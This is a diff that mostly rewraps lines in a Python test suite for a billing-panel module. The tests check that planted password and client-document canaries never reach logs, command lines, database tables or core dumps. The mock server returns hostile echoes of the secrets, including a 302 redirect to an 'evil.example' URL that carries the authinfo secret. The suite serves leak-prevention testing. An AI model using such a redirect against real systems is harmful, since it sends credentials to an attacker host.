@@ -1,4 +1,6 @@
-"""Canaries: the connection's password, the server's password and a client's papers stand where they belong, and nowhere else."""
+"""Canaries: the connection's password, the server's password and a client's papers stand where they belong,
+and nowhere else.
+"""
 
 from __future__ import annotations
 
@@ -57,16 +59,49 @@ def echoing(canaries: List[str], how: str) -> bytes:
     last, param = canaries[-1], [{"$name": words, "$": words}]
     if how == "xml":
         attributes = " ".join(f"{name}={quoteattr(words)}" for name in ("object", "obj", "val", "msg"))
-        inner = "".join(f"<param name={quoteattr(name)}>{escape(words)}</param>" for name in ("object", "value", "desc", *canaries))
-        body = f'<doc><tparams><authinfo>{escape(words)}</authinfo><password>{escape(words)}</password></tparams>'
-        return said(f'{body}<error type="value" code="4" {attributes}>{inner}<msg>{escape(words)}</msg></error></doc>'.encode())
+        inner = "".join(
+            f"<param name={quoteattr(name)}>{escape(words)}</param>"
+            for name in ("object", "value", "desc", *canaries)
+        )
+        body = f"<doc><tparams><authinfo>{escape(words)}</authinfo><password>{escape(words)}</password></tparams>"
+        return said(
+            f'{body}<error type="value" code="4" {attributes}>{inner}<msg>{escape(words)}</msg></error></doc>'.encode()
+        )
     if how == "json":
-        error = {"code": words[:19], "obj": words, "val": words, "msg": words, "$type": words, "$object": last, "param": param}
-        return said(json.dumps({"error": error, "tparams": {"password": words}, "doc": {"error": error, "tparams": {"authinfo": words}}}).encode())
+        error = {
+            "code": words[:19],
+            "obj": words,
+            "val": words,
+            "msg": words,
+            "$type": words,
+            "$object": last,
+            "param": param,
+        }
+        return said(
+            json.dumps(
+                {
+                    "error": error,
+                    "tparams": {"password": words},
+                    "doc": {"error": error, "tparams": {"authinfo": words}},
+                }
+            ).encode()
+        )
     if how == "json of version 6":
-        return said(json.dumps({"doc": {"error": {"$type": canaries[0], "$object": last, "msg": {"$": words}, "param": param}}}).encode())
+        return said(
+            json.dumps(
+                {
+                    "doc": {
+                        "error": {"$type": canaries[0], "$object": last, "msg": {"$": words}, "param": param}
+                    }
+                }
+            ).encode()
+        )
     if how == "redirect":
-        return said(words.encode(), f"Location: https://evil.example/{escape(words)}?authinfo={words}", status="302 Found")
+        return said(
+            words.encode(),
+            f"Location: https://evil.example/{escape(words)}?authinfo={words}",
+            status="302 Found",
+        )
     return said(f"<html>{words}</html>".encode(), f"X-Echo: {words}", status=f"500 {words}")
 
 
@@ -80,7 +115,9 @@ def test_canaries_are_in_no_log_no_command_line_no_task_and_no_journal(stage: St
     job = stage.paid(name)[name]
     said_aloud: List[bytes] = []
     assert stage.carry_out("open", job).status == 0
-    servers = [row["password"] for row in stage.up.get("state")["services"]] if stage.kind is PROCESSING else []
+    servers = (
+        [row["password"] for row in stage.up.get("state")["services"]] if stage.kind is PROCESSING else []
+    )
     canaries = [*LOGIN, *PAPERS, *servers]
     watcher = Watcher(canaries, stage.kind.executable)
     watcher.start()
@@ -96,7 +133,15 @@ def test_canaries_are_in_no_log_no_command_line_no_task_and_no_journal(stage: St
     assert unspoken == []
     for path in written(stage):
         assert [canary for canary in canaries if canary.encode() in path.read_bytes()] == [], path
-    for table in ("runningoperation", "sandbox_history", "task", "sandbox_problem", "history_item", "itemparam", "processingparam"):
+    for table in (
+        "runningoperation",
+        "sandbox_history",
+        "task",
+        "sandbox_problem",
+        "history_item",
+        "itemparam",
+        "processingparam",
+    ):
         text = str(stage.rows(f"SELECT * FROM {table}"))
         assert [canary for canary in canaries if canary in text] == [], table
 
@@ -112,7 +157,10 @@ def go_wrong(stage: Stage, job: Job, how: str, servers: List[str]) -> List[bytes
     """Every kind of call is answered by what it told itself; what the module printed."""
     stage.man.honest()
     stage.man.answers(lambda asked: asked.path.startswith("/echo"), echoing([PASSWORD], how))
-    printed = [stage.check(url=f"{stage.man.origin}/echo/billmgr"), stage.check(url=f"{stage.man.origin}/echo/billmgr", dialect="auto")]
+    printed = [
+        stage.check(url=f"{stage.man.origin}/echo/billmgr"),
+        stage.check(url=f"{stage.man.origin}/echo/billmgr", dialect="auto"),
+    ]
     for func in (stage.kind.spends, "domain.renew", "service.prolong", "vds.edit", "domaincontact.edit"):
         meant = lambda asked, func=func: asked.func == func and asked.params.get("sok") == "ok"  # noqa: E731
         stage.man.answers(meant, echoing(spoken_to(func, servers), how))
@@ -120,7 +168,9 @@ def go_wrong(stage: Stage, job: Job, how: str, servers: List[str]) -> List[bytes
     name = f"echo{number}.{stage.kind.zone}"
     order = stage.paid(name)[name]
     if stage.kind is REGISTRAR:  # another address makes another contact, which has to be sent
-        stage.change("UPDATE service_profileparam SET value = ? WHERE intname = 'location_address'", f"Mira {number}-7")
+        stage.change(
+            "UPDATE service_profileparam SET value = ? WHERE intname = 'location_address'", f"Mira {number}-7"
+        )
     printed.append(stage.carry_out("open", order))
     renewal = stage.panel.new("sandbox.operation", item=job.item, command="prolong")
     printed.append(stage.carry_out("prolong", Job(job.item, renewal)))
@@ -134,22 +184,33 @@ def go_wrong(stage: Stage, job: Job, how: str, servers: List[str]) -> List[bytes
 
 
 def written(stage: Stage) -> List[Path]:
-    """All that the panel and our module have written, but for the panel's own database (whose tables are looked at one by one)."""
-    files = [path for path in (stage.root / "var").rglob("*") if path.is_file() and "billmgr.sqlite3" not in path.name]
+    """All that the panel and our module have written, but for the panel's own database (whose tables are
+    looked at one by one).
+    """
+    files = [
+        path
+        for path in (stage.root / "var").rglob("*")
+        if path.is_file() and "billmgr.sqlite3" not in path.name
+    ]
     names = {path.name for path in files}
     assert {"mgrctl.jsonl", f"{stage.kind.executable}.log", "state.sqlite3"} <= names, names
-    assert (stage.root / "var" / f"{stage.kind.executable}.log").read_text().count(" DEBUG ") > 5, "the log was not looked into at its most talkative"
+    assert (stage.root / "var" / f"{stage.kind.executable}.log").read_text().count(" DEBUG ") > 5, (
+        "the log was not looked into at its most talkative"
+    )
     return files
 
 
 def test_a_module_that_crashes_leaves_no_dump_of_its_memory(stage: Stage):
     waits = threading.Event()
-    stage.man.answers(lambda asked: asked.path == "/wait/billmgr", lambda connection: waits.set() or time.sleep(3))
+    stage.man.answers(
+        lambda asked: asked.path == "/wait/billmgr", lambda connection: waits.set() or time.sleep(3)
+    )
     form = stage.form(url=f"{stage.man.origin}/wait/billmgr")
     words = [str(stage.root / "processing" / stage.kind.executable), "--command", "check_connection"]
     most = resource.getrlimit(resource.RLIMIT_CORE)[1]
     child = subprocess.Popen(
-        words, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=stage.root, env=CLEAN,
+        words, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=stage.root,
+        env=CLEAN,
         preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE, (most, most)),
     )  # fmt: skip
     assert child.stdin
